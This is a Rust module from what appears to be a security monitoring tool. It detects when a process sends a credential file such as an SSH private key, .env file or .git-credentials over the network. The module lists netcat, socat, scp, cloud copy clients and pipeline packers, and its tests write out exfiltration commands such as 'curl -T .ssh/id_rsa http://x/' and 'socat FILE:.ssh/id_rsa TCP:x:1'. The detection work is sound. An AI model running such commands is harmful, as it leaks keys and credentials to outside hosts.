//! Programs that carry bytes from hand to hand: which file, or whether their standard input, they were told to send. What a
//! client reads to log in with (`curl --key`, `scp -i`) is not what it sends.

mod login;

use crate::facts::{Facts, ProcessFacts, StepFacts};
use crate::key_places::{KEYS, is_hidden};
use login::is_login_option;

/// Clients of other protocols that send whatever is given to their standard input.
const PIPES: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "nc.openbsd",
    "nc.traditional",
    "socat",
    "telnet",
    "gnutls-cli",
];
/// Those that copy the files which stand among their arguments.
const COPIERS: &[&str] = &[
    "scp",
    "sftp",
    "rsync",
    "rclone",
    "aws",
    "gsutil",
    "gcloud",
    "gcloud.py",
    "az",
    "azcopy",
    "mc",
    "s3cmd",
    "s5cmd",
    "croc",
    "wormhole",
    "magic-wormhole",
    "lftp",
    "ftp",
    "ncftpput",
    "tftp",
    "smbclient",
    "transfer",
];
/// Programs of a shell's pipelines that pass on what they read, as it is or in another form.
const PACKERS: &[&str] = &[
    "cat", "tac", "head", "tail", "tar", "bsdtar", "zip", "gzip", "pigz", "bzip2", "xz", "zstd",
    "7z", "7za", "cpio", "base64", "base32", "basenc", "uuencode", "xxd", "od", "hexdump",
    "openssl", "gpg", "age", "grep", "egrep", "fgrep", "rg", "sed", "awk", "gawk", "mawk", "cut",
    "tr", "tee", "sort", "find", "xargs", "jq", "yq", "dd", "paste", "rev", "fold", "split",
];
/// Those that give out what they keep to who asks.
const KEEPERS: &[&str] = &[
    "git",
    "git-credential-store",
    "gh",
    "glab",
    "pass",
    "secret-tool",
];
fn name(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

fn called(process: &ProcessFacts) -> &str {
    process.called()
}

/// Whether an argument is this file, or a directory around it that is itself a place of keys.
fn is_file(process: &ProcessFacts, argument: &str, path: &str) -> bool {
    let argument = argument.trim_end_matches('/');
    if argument.is_empty() || path.is_empty() {
        return false;
    }
    let whole = if argument.starts_with('/') {
        argument.to_owned()
    } else {
        let relative = argument.strip_prefix("./").unwrap_or(argument);
        format!("{}/{relative}", process.cwd.trim_end_matches('/'))
    };
    path == whole
        || is_hidden(&whole)
            && path
                .strip_prefix(&whole)
                .is_some_and(|rest| rest.starts_with('/'))
}

/// What the arguments of curl, wget or httpie say is to be sent: files, `-` for the standard input.
fn bodies(process: &ProcessFacts) -> Vec<&str> {
    let mut bodies = Vec::new();
    let mut before = "";
    let wget = called(process).starts_with("wget");
    let curl = called(process).starts_with("curl");
    for argument in process.argv.iter().skip(1).map(String::as_str) {
        let (option, value) = match argument.split_once('=') {
            Some((option, value)) if option.starts_with("--") => (option, value),
            // Values stand behind a letter as well: `-T-`, `-d@file`, `-sd@file`.
            _ if curl && is_short(argument) => match argument.find(['T', 'd', 'F']) {
                Some(at) => (
                    &argument[at..=at],
                    argument.get(at + 1..).unwrap_or_default(),
                ),
                None => ("", ""),
            },
            _ if argument.starts_with('-') && argument.len() > 1 => ("", ""),
            _ => (before, argument),
        };
        before = if value.is_empty() { option } else { "" };
        if before.is_empty() && argument.starts_with("--") && !argument.contains('=') {
            before = argument;
        }
        match option {
            "T" | "--upload-file" if curl => bodies.push(if value == "." { "-" } else { value }),
            "d" | "F" | "--data" | "--data-binary" | "--data-ascii" | "--data-raw"
            | "--data-urlencode" | "--json" | "--form"
                if curl =>
            {
                let at = value.find(['@', '<']);
                let file = at.map_or("", |at| value.get(at + 1..).unwrap_or_default());
                // `file=@x;type=text/plain`.
                bodies.push(file.split(';').next().unwrap_or_default());
            }
            "--post-file" | "--body-file" if wget => bodies.push(value),
            "" if !curl && !wget => {
                bodies.push(value.split_once('@').map_or("", |(_, file)| file));
            }
            _ => {}
        }
    }
    bodies.retain(|body| !body.is_empty());
    bodies
}

/// A bundle of options of one letter.
fn is_short(argument: &str) -> bool {
    argument.starts_with('-') && !argument.starts_with("--") && argument.len() > 1
}

/// Whether the process sends the file because it was told to.
fn sends_file(process: &ProcessFacts, path: &str) -> bool {
    let called = called(process);
    match called {
        "curl" | "wget" | "wget2" | "http" | "https" | "xh" => bodies(process)
            .iter()
            .any(|body| is_file(process, body, path)),
        _ if PIPES.contains(&called) || is_tls_client(process) => {
            // A file that is named is a key or a certificate, but for socat's own addresses.
            let named = |a: &&String| a.ends_with(path) || a.contains(name(path));
            process.argv.iter().find(named).is_none_or(|argument| {
                let begin = argument.split([':', ',']).next().unwrap_or_default();
                ["FILE", "OPEN", "GOPEN"]
                    .iter()
                    .any(|address| begin.eq_ignore_ascii_case(address))
            })
        }
        // Its own keys it logs in with.
        "ssh" => {
            let named = |a: &String| a.ends_with(path) || is_file(process, a, path);
            !path.contains("/.ssh/") && !process.argv.iter().any(named)
        }
        _ if COPIERS.contains(&called) => {
            let arguments = &process.argv;
            arguments.iter().enumerate().skip(1).any(|(at, argument)| {
                let before = arguments.get(at - 1).map_or("", String::as_str);
                !is_login_option(called, before)
                    && is_file(
                        process,
                        argument.strip_prefix("fileb://").unwrap_or(argument),
                        path,
                    )
            })
        }
        _ => false,
    }
}

fn is_tls_client(process: &ProcessFacts) -> bool {
    process.called() == "openssl" && process.argv.get(1).is_some_and(|a| a == "s_client")
}

/// Whether the process sends what its standard input gives.
fn sends_input(process: &ProcessFacts) -> bool {
    let called = called(process);
    match called {
        "curl" => bodies(process).contains(&"-"),
        "wget" | "wget2" => bodies(process)
            .iter()
            .any(|body| *body == "-" || *body == "/dev/stdin"),
        "http" | "https" | "xh" | "ssh" => true,
        "openssl" => is_tls_client(process),
        "rclone" => process.argv.iter().any(|a| a == "rcat"),
        "aws" | "gsutil" | "gcloud" | "gcloud.py" | "mc" | "s3cmd" => {
            process.argv.iter().any(|a| a == "-")
        }
        _ => PIPES.contains(&called),
    }
}

/// Whether the event shows that a file with a credential was given to a program that sends it: read by that program itself, or
/// by the first of a pipeline that ends there, or packed into a file that it sends.
pub(crate) fn is_carried(facts: &Facts) -> bool {
    let Some(process) = &facts.process else {
        return false;
    };
    if facts.kind == "credential_read" {
        return is_kept(&facts.source.path) && sends_file(process, &facts.source.path);
    }
    let [first, between @ .., last] = &facts.steps[..] else {
        return false;
    };
    let given = match last.how.as_str() {
        "pipe" | "socket" => sends_input(process),
        "file" => sends_file(process, &last.name) || sends_input(process),
        _ => false,
    };
    // What a keeper sends on need not be what it keeps: it has to be seen.
    let packs = |step: &StepFacts| {
        let program = name(&step.executable);
        PACKERS.contains(&program) || facts.grade == "observed" && KEEPERS.contains(&program)
    };
    given
        && first.how == "read"
        && is_kept(&first.name)
        && packs(first)
        && between.iter().all(packs)
}

/// Whether a program that packs was given whole directories, and not the places of keys: a backup of a home.
pub(crate) fn packs_all(process: &ProcessFacts) -> bool {
    let names = |argument: &String| {
        !argument.starts_with("--exclude") && KEYS.iter().any(|key| argument.contains(key))
    };
    matches!(
        called(process),
        "tar" | "bsdtar" | "zip" | "cpio" | "7z" | "7za" | "find"
    ) && !process.argv.iter().skip(1).any(names)
}

/// Where people and systems keep their keys. What a pod is given is there to be sent.
fn is_kept(path: &str) -> bool {
    let file = name(path);
    !path.starts_with("/run/secrets/")
        && !path.starts_with("/var/run/secrets/")
        && (is_hidden(path)
            || file == ".env"
            || file.starts_with(".env.")
            || file.starts_with("id_")
            || [
                "/etc/shadow",
                "/etc/gshadow",
                "/etc/ssh/",
                "/etc/kubernetes/",
                "/etc/rancher/",
            ]
            .iter()
            .any(|place| path.starts_with(place)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn process(executable: &str, argv: &str) -> ProcessFacts {
        ProcessFacts {
            executable: executable.into(),
            argv: argv.split(' ').map(str::to_owned).collect(),
            cwd: "/root".into(),
            ..ProcessFacts::default()
        }
    }

    #[test]
    fn files_that_are_sent_and_files_to_log_in_with() {
        const KEY: &str = "/root/.ssh/id_rsa";
        for (executable, argv, sent) in [
            ("/usr/bin/curl", "curl -T .ssh/id_rsa http://x/", true),
            (
                "/usr/bin/curl",
                "curl -sT /root/.ssh/id_rsa http://x/",
                true,
            ),
            ("/usr/bin/curl", "curl -s -d @.ssh/id_rsa http://x/", true),
            ("/usr/bin/curl", "curl -sd@.ssh/id_rsa http://x/", true),
            (
                "/usr/bin/curl",
                "curl -F f=@.ssh/id_rsa;type=a/b http://x/",
                true,
            ),
            (
                "/usr/bin/curl",
                "curl --data-binary @.ssh/id_rsa http://x/",
                true,
            ),
            (
                "/usr/bin/curl",
                "curl --upload-file .ssh/id_rsa http://x/",
                true,
            ),
            ("/usr/bin/curl", "curl --key .ssh/id_rsa sftp://x/", false),
            ("/usr/bin/curl", "curl -K .ssh/id_rsa http://x/", false),
            ("/usr/bin/curl", "curl -H @.ssh/id_rsa http://x/", false),
            ("/usr/bin/curl", "curl -d @- http://x/", false),
            (
                "/usr/bin/wget",
                "wget --post-file=.ssh/id_rsa http://x/",
                true,
            ),
            (
                "/usr/bin/wget",
                "wget --post-file .ssh/id_rsa http://x/",
                true,
            ),
            (
                "/usr/bin/wget",
                "wget --private-key=.ssh/id_rsa https://x/",
                false,
            ),
            ("/usr/bin/scp", "scp .ssh/id_rsa x:", true),
            ("/usr/bin/scp", "scp -r .ssh x:", true),
            ("/usr/bin/scp", "scp -i .ssh/id_rsa a x:", false),
            ("/usr/bin/rsync", "rsync -a /root x:", false),
            ("/usr/bin/nc.openbsd", "nc x 1", true),
            ("/usr/bin/ncat", "ncat --ssl-key .ssh/id_rsa -l 1", false),
            ("/usr/bin/socat", "socat FILE:.ssh/id_rsa TCP:x:1", true),
            (
                "/usr/bin/socat",
                "socat OPENSSL:x:1,key=.ssh/id_rsa -",
                false,
            ),
            ("/usr/bin/ssh", "ssh x cat", false),
            ("/usr/bin/openssl", "openssl s_client -connect x:1", true),
            (
                "/usr/bin/openssl",
                "openssl s_client -connect x:1 -key .ssh/id_rsa",
                false,
            ),
            (
                "/usr/bin/openssl",
                "openssl dgst -sign .ssh/id_rsa f",
                false,
            ),
            ("/usr/bin/gnutls-cli", "gnutls-cli x", true),
            (
                "/usr/bin/gnutls-cli",
                "gnutls-cli --x509keyfile .ssh/id_rsa x",
                false,
            ),
            ("/usr/bin/cat", "cat .ssh/id_rsa", false),
        ] {
            assert_eq!(sends_file(&process(executable, argv), KEY), sent, "{argv}");
        }
    }

    /// What it is given to log in with, and what to send: the same file.
    #[test]
    fn options_of_clients() {
        const FILE: &str = "/root/.s3cfg";
        for (argv, sent) in [
            ("s3cmd -c .s3cfg ls", false),
            ("s3cmd --config .s3cfg put x s3://b", false),
            ("s3cmd --config=.s3cfg put x s3://b", false),
            ("s3cmd put .s3cfg s3://b", true),
            // Of one program it is a file to log in with, of another none.
            ("scp -c .s3cfg x:", false),
            ("s5cmd --credentials-file .s3cfg ls", false),
            ("s5cmd cp .s3cfg s3://b", true),
            ("rclone --config .s3cfg ls x:", false),
            (
                "rclone copy --drive-service-account-file .s3cfg a x:",
                false,
            ),
            ("rclone copy .s3cfg x:", true),
            ("rsync -e .s3cfg a x:", false),
            ("rsync --password-file .s3cfg a x::m", false),
            ("rsync --files-from .s3cfg a x:", false),
            ("rsync -a .s3cfg x:", true),
            ("smbclient -A .s3cfg //x/y", false),
            ("smbclient --authentication-file .s3cfg //x/y", false),
            ("sftp -b .s3cfg x", false),
            ("az login --certificate .s3cfg", false),
            ("aws --ca-bundle .s3cfg s3 ls", false),
            ("aws s3 cp .s3cfg s3://b", true),
            ("gcloud auth login --cred-file .s3cfg", false),
            ("gsutil cp .s3cfg gs://b", true),
            ("mc -C .s3cfg ls", false),
            ("mc cp .s3cfg x/b", true),
            ("lftp -f .s3cfg", false),
            ("ncftpput -f .s3cfg x / y", false),
            ("ncftpput x / .s3cfg", true),
            ("ssh -i .s3cfg x", false),
            ("ssh x", true),
            // Clients of databases and clusters send none of their files.
            ("mysql --defaults-file .s3cfg", false),
            ("kubectl --kubeconfig .s3cfg get pods", false),
            ("git -c .s3cfg push", false),
        ] {
            let program = argv.split(' ').next().unwrap_or_default();
            let process = process(&format!("/usr/bin/{program}"), argv);
            assert_eq!(sends_file(&process, FILE), sent, "{argv}");
        }
    }

    #[test]
    fn keepers_count_where_it_was_seen() {
        let step = |how: &str, name: &str, executable: &str| StepFacts {
            how: how.into(),
            name: name.into(),
            executable: executable.into(),
            ..StepFacts::default()
        };
        for (grade, carried) in [("observed", true), ("lineage", false)] {
            let facts = Facts {
                kind: "credential_sent".into(),
                grade: grade.into(),
                process: Some(process("/usr/bin/curl", "curl -d @- http://x/")),
                steps: vec![
                    step(
                        "read",
                        "/root/.git-credentials",
                        "/usr/lib/git-core/git-credential-store",
                    ),
                    step("pipe", "pipe:[1]", "/usr/bin/git"),
                    step("pipe", "pipe:[2]", "/usr/bin/curl"),
                ],
                ..Facts::default()
            };
            assert_eq!(is_carried(&facts), carried, "{grade}");
        }
    }

    #[test]
    fn what_the_standard_input_is_for() {
        for (executable, argv, sent) in [
            ("/usr/bin/curl", "curl -T - http://x/", true),
            ("/usr/bin/curl", "curl -sT- http://x/", true),
            ("/usr/bin/curl", "curl -d @- http://x/", true),
            ("/usr/bin/curl", "curl --data-binary @- http://x/", true),
            ("/usr/bin/curl", "curl -F f=@- http://x/", true),
            ("/usr/bin/curl", "curl -K - http://x/", false),
            ("/usr/bin/curl", "curl -H @- http://x/", false),
            ("/usr/bin/wget", "wget --post-file=- http://x/", true),
            ("/usr/bin/wget", "wget -i - http://x/", false),
            ("/usr/bin/openssl", "openssl s_client -connect x:1", true),
            ("/usr/bin/openssl", "openssl enc -aes-256-cbc", false),
            ("/usr/bin/nc.openbsd", "nc x 1", true),
            ("/usr/bin/rclone", "rclone rcat x:y", true),
        ] {
            assert_eq!(sends_input(&process(executable, argv)), sent, "{argv}");
        }
    }
}
